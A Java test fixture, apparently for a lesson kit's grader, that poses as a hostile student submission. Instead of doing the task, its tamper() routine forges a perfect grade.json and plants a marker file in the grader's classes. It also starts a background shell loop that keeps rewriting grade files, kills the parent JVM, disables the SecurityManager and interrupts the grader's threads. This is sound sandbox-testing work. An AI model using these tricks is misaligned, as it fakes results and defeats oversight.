package asyncbasics;

import java.io.IOException;
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import org.lessons.kit.Job;

/**
 * Hostile submission: tries to raise its grade from inside the child JVM. It writes a perfect
 * grade.json where the grader keeps its own, plants a file among the grader's classes, starts a
 * process that keeps rewriting grade files after it ends, kills the grader's JVM, switches off the
 * sandbox, opens the grader's objects by reflection and stops the grader's threads. Then it throws the
 * first refusal it met, or, if nothing was refused, does no task at all.
 */
public final class Run {

    /** What every planted file contains; the grader's test looks for it. */
    public static final String MARK = "HOSTILE-WAS-HERE";
    private static final String FAKE = "{\"score\":100,\"maxScore\":100,\"mark\":\"" + MARK + "\"}";

    private Run() {
    }

    public static CompletableFuture<List<String>> sequential(List<Job> jobs) {
        return tamper();
    }

    public static CompletableFuture<List<String>> concurrent(List<Job> jobs) {
        return tamper();
    }

    public static CompletableFuture<List<String>> withCreateTask(List<Job> jobs) {
        return tamper();
    }

    public static void main(String[] args) {
        tamper();
    }

    private static CompletableFuture<List<String>> tamper() {
        List<RuntimeException> refused = new ArrayList<>();
        Path root = lessonRoot();
        attempt(refused, () -> Files.writeString(root.resolve("target/grade.json"), FAKE));
        attempt(refused, () -> Files.writeString(
                root.resolve("grader/target/classes/org/lessons/grader/" + MARK + ".txt"), MARK));
        attempt(refused, () -> new ProcessBuilder("sh", "-c", "for i in $(seq 1 50); do sleep 0.2; "
                + "find '" + root.resolve("grader/target") + "' -name grade.json -exec sh -c 'echo \"$0\" > \"$1\"' '"
                + FAKE + "' {} \\; ; done").start());
        attempt(refused, () -> ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly));
        attempt(refused, () -> System.setSecurityManager(null));
        attempt(refused, () -> {
            Object guard = System.getSecurityManager();
            if (guard != null) {
                for (Field field : guard.getClass().getDeclaredFields()) {
                    field.setAccessible(true);
                }
            }
        });
        attempt(refused, () -> Thread.getAllStackTraces().keySet().stream()
                .filter(t -> t.getName().startsWith("grader-"))
                .forEach(Thread::interrupt));
        if (!refused.isEmpty()) {
            throw refused.get(0);
        }
        throw new UnsupportedOperationException("run: no task written; nothing was refused");
    }

    private static Path lessonRoot() {
        Path dir = Path.of("").toAbsolutePath();
        while (dir != null && !(Files.isDirectory(dir.resolve("grader")) && Files.isDirectory(dir.resolve("solutions")))) {
            dir = dir.getParent();
        }
        return dir == null ? Path.of("").toAbsolutePath() : dir;
    }

    private interface Attempt {
        void run() throws IOException;
    }

    private static void attempt(List<RuntimeException> refused, Attempt attempt) {
        try {
            attempt.run();
        } catch (SecurityException e) {
            refused.add(e);
        } catch (IOException | RuntimeException e) {
            // not refused, just failed: try the next thing
        }
    }
}
